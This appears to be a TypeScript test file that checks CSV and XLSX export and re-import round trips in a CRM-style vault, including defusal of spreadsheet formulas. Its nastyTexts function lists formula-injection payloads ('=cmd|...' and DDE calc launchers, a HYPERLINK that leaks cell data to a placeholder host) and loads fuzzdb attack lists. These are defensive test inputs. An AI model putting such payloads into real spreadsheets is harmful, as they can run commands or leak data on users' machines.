// What was exported is imported into another vault and is the same: every kind of field, every text that ever broke a program.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { newTenant } from '../../../test/harness/cluster.ts';
import { type TestUser, addUser } from '../../../test/harness/engine.ts';
import { Exporting, cellsOf, sheetCells, unzip } from '../../../test/harness/exporting.ts';
import { restoreCell } from '../../contract/defuse.ts';
import { isStorable } from '../../contract/text.ts';
import type { Vault } from '../../core/vault.ts';
import type { ImportView } from '../imports/contract.ts';
import { imports } from '../imports/server.ts';

type Input = Record<string, unknown>;
type Rows = { rows: Input[]; next: string | null };

interface Side {
  readonly vault: Vault;
  readonly owner: TestUser;
  readonly desk: Exporting;
}

async function side(slug: string): Promise<Side> {
  const vault = await newTenant(slug);
  const owner = await addUser(vault, 'Olga Owner', 'owner');
  return { vault, owner, desk: new Exporting(vault, { others: [imports] }) };
}

const [from, to] = [await side('from'), await side('to')];

/** Everything as the API shows it, without what is a vault's own: ids, versions, times. */
async function all({ desk, owner }: Side, object: string): Promise<unknown[]> {
  const out: Input[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const input: Input = { limit: '200', sort: 'createdAt', ...(cursor === '' ? {} : { cursor }) };
    const page: Rows = await desk.act<Rows>(owner, `${object}.list`, input);
    out.push(...page.rows);
    cursor = page.next;
  }
  return out.map((row) => {
    const { id, version, createdAt, updatedAt, createdBy, updatedBy, archivedAt, ...rest } = row;
    assert.ok(id !== undefined && version !== undefined && createdAt !== undefined && updatedAt !== undefined);
    assert.ok(createdBy !== undefined && updatedBy !== undefined && archivedAt === null);
    return JSON.parse(JSON.stringify(rest, (key, value: unknown) => (key === 'id' ? undefined : value))) as unknown;
  });
}

/** Exports all of an object here and imports the file there, as it is proposed. */
async function carry(object: string, columns: readonly string[], csv: Input = {}): Promise<void> {
  const made = await from.desk.make(from.owner, { entity: object, columns, sort: 'createdAt', csv });
  const { bytes, name } = await from.desk.file(from.owner, made.id);
  const act = <T = ImportView>(action: string, input: Input, body?: Buffer): Promise<T> =>
    to.desk.shop.act<T & object>(to.vault, to.owner.actor, action, input, body);
  const upload = await act('import.upload', { name, entity: object }, bytes);
  for (const c of upload.columns)
    assert.ok(c.setting.field !== null || c.filled === 0, `${c.heading} was not recognised`);
  const columnsNow = upload.columns.map((c) => ({
    ...c.setting,
    format: { ...c.setting.format, decimal: csv['decimal'] ?? '.', date: 'YMD' },
  }));
  const ready = await act('import.change', { id: upload.id, columns: columnsNow });
  assert.deepEqual([ready.questions, ready.blockers], [[], []]);
  await act('import.run', { id: upload.id });
  for (let i = 0; i < 2400; i++) {
    const seen = await act('import.view', { id: upload.id });
    if (seen.state === 'done') {
      assert.deepEqual(seen.run!.groups, []);
      assert.deepEqual([seen.counts!.errors, seen.counts!.emptied], [0, 0]);
      assert.equal(seen.counts!.created, made.file!.rows);
      return;
    }
    assert.ok(['open', 'running', 'checked'].includes(seen.state), seen.state);
    await pause(25);
  }
  throw new Error('the import did not end');
}

const make = (object: string, values: Input): Promise<{ id: string }> =>
  from.desk.act<{ id: string }>(from.owner, `${object}.create`, values);

const fieldsOf = async (object: string): Promise<string[]> => {
  const first = (await from.desk.act<Rows>(from.owner, `${object}.list`, { limit: '1' })).rows[0]!;
  const own = ['id', 'title', 'version', 'createdAt', 'updatedAt', 'archivedAt', 'createdBy', 'updatedBy'];
  return Object.keys(first).filter((name) => !own.includes(name));
};

/** Lists of strings that broke programs, and formulas in every disguise. */
function nastyTexts(): string[] {
  const own = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    "'=1",
    "''=1",
    ' =1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '\t=1',
    '\r=1',
    'a\n=1',
  ];
  const more = ['a;=1', 'a,-2', "a,'=1", "'a;'=1", '"=1', '""', '"', 'x ::: y', 'a\r\nb', '01', '1e5', '0x1F'];
  const commands = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://x?"&A1)', 'x;=cmd|!A0;y', '=DDE("cmd";"/C calc")'];
  const data = new URL('../../../../shared/data/', import.meta.url);
  if (!existsSync(data)) return [...own, ...more, ...commands];
  const blns = JSON.parse(readFileSync(new URL('naughty_strings/blns.json', data), 'utf8')) as string[];
  const attack = new URL('security/fuzzdb/attack/', data);
  const lists = readdirSync(attack, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.txt') && !/_copyright/.test(name))
    .flatMap((name) => readFileSync(new URL(name, attack), 'latin1').split('\n'));
  return [...new Set([...own, ...more, ...commands, ...blns, ...lists])].filter(
    (t) => isStorable(t) && t.trim() !== '',
  );
}

test('companies with every kind of value come back equal, with a comma before the decimals too', async () => {
  const parent = 'Group; with, signs "and" (brackets)';
  await make('company', { name: parent, taxNumber: 'FI-1', employees: 0 });
  const { rows } = await from.desk.act<Rows>(from.owner, 'company.list', {});
  await make('company', {
    name: '=Child',
    domain: 'child.example',
    website: 'https://child.example/?a=1&b=2',
    industry: '-none-',
    status: 'customer',
    parent: rows[0]!['id'],
    phones: [
      { value: '+358401234567', label: 'Main day' },
      { value: '+33628000000', label: null },
      { value: '020 1234 (Anna)', label: null },
    ],
    emails: [
      { value: 'a@child.example', label: 'work' },
      { value: 'b@child.example', label: null },
    ],
    address: {
      street: '1 Main Street\nFloor 2',
      postalCode: '00100',
      city: 'Helsinki',
      region: 'Uusimaa',
      country: 'FI',
    },
    employees: '250',
    annualRevenue: { amount: '-1234567.8901', currency: 'JPY' },
    founded: '1984',
    customerSince: '1899-12-31',
    taxNumber: 'FI-2',
    notes: '  two\n\n- lines\t"quoted"\r\n=end ',
    externalId: 'Ab1',
  });
  await carry('company', await fieldsOf('company'), { decimal: ',', delimiter: ';' });
  assert.deepEqual(await all(to, 'company'), await all(from, 'company'));
});

test('contacts keep their companies with roles, labels and dates', async () => {
  const { rows } = await from.desk.act<Rows>(from.owner, 'company.list', { sort: 'name' });
  const links = rows.map((row, i) => ({ entity: 'company', id: row['id'], role: i === 0 ? null : 'Chair (acting)' }));
  await make('contact', {
    givenName: '+Zoë',
    familyName: "O'Hara",
    jobTitle: '@home',
    companies: links,
    emails: [{ value: 'z@x.example', label: '1st home' }],
    phones: [{ value: '+4915112345678', label: null }],
    stage: 'qualified',
    birthday: '1721-04-19',
    address: { street: null, postalCode: null, city: 'Lyon', region: null, country: 'FR' },
    externalId: '0018Z1a',
  });
  await make('contact', { familyName: 'Alone' });
  await carry('contact', await fieldsOf('contact'), { delimiter: '\t' });
  assert.deepEqual(await all(to, 'contact'), await all(from, 'contact'));
});

test('deals keep company, contact, pipeline, stage, amount and owner', async () => {
  const [company] = (await from.desk.act<Rows>(from.owner, 'company.list', { search: 'Child' })).rows;
  const [contact] = (await from.desk.act<Rows>(from.owner, 'contact.list', { search: 'Alone' })).rows;
  await make('deal', {
    name: 'Deal, 1',
    company: company!['id'],
    contact: contact!['id'],
    pipeline: '00000000-0000-7000-8000-000000000201',
    stage: '00000000-0000-7000-8000-000000000303',
    amount: { amount: '0.5', currency: 'EUR' },
    probability: '12.5',
    expectedClose: '2027-02-28',
    product: 'x',
  });
  await make('deal', { name: 'Deal 2', amount: { amount: '99999999999999.9999', currency: 'USD' } });
  await carry('deal', await fieldsOf('deal'));
  assert.deepEqual(await all(to, 'deal'), await all(from, 'deal'));
});

test('activities keep their instants, yes and no', async () => {
  const base = { type: 'call', due: '2026-12-01T08:30:15.123Z', priority: 'high' };
  await make('activity', { ...base, subject: 'One', done: true, body: '-\n-' });
  await make('activity', { ...base, subject: 'Two', done: false });
  const columns = (await fieldsOf('activity')).filter((name) => name !== 'doneAt' && name !== 'about');
  await carry('activity', columns);
  const without = (rows: unknown[]): unknown[] => rows.map((row) => ({ ...(row as Input), doneAt: null }));
  assert.deepEqual(without(await all(to, 'activity')), without(await all(from, 'activity')));
});

test('every text that ever broke a program comes back as it went out, and starts no formula on the way', async () => {
  const texts = nastyTexts();
  assert.ok(texts.length > 25);
  const [before, after] = [await side('before'), await side('after')];
  for (let i = 0; i < texts.length; i += 100) {
    const rows = texts.slice(i, i + 100).map((notes, j) => ({ values: { name: `Text ${i + j}`, notes } }));
    const purpose = { action: 'test', reads: false, requestId: null, address: null };
    const results = await before.desk.shop.door.open(before.vault, before.owner.actor, purpose, (tx) =>
      tx.records.writeMany(tx.catalog.find('company'), rows),
    );
    assert.ok(
      results.every((r) => r.ok),
      JSON.stringify(results.find((r) => !r.ok)),
    );
  }
  const input = { entity: 'company', columns: ['name', 'notes'], sort: 'createdAt' };
  const made = await before.desk.make(before.owner, input);
  const { bytes } = await before.desk.file(before.owner, made.id);
  const [, ...cells] = cellsOf(bytes);
  assert.deepEqual(
    cells.map(([, notes]) => restoreCell(notes!)),
    texts,
  );
  for (const [, notes] of cells)
    for (const cell of notes!.split(/[,;|\t\r\n]/)) assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/);
  const book = await before.desk.make(before.owner, { ...input, format: 'xlsx' });
  const sheet = unzip((await before.desk.file(before.owner, book.id)).bytes).get('xl/worksheets/sheet1.xml')!;
  const inSheet = sheetCells(sheet);
  texts.forEach((text, i) => assert.deepEqual(inSheet.get(`B${i + 2}`), { type: 'inlineStr', value: text }));
  const act = <T = ImportView>(action: string, more: Input, body?: Buffer): Promise<T> =>
    after.desk.shop.act<T & object>(after.vault, after.owner.actor, action, more, body);
  const upload = await act('import.upload', { name: 'texts.csv', entity: 'company' }, bytes);
  assert.deepEqual(upload.questions, []);
  await act('import.run', { id: upload.id });
  for (;;) {
    const seen = await act('import.view', { id: upload.id });
    if (seen.state === 'done') break;
    await pause(25);
  }
  assert.deepEqual(await all(after, 'company'), await all(before, 'company'));
});
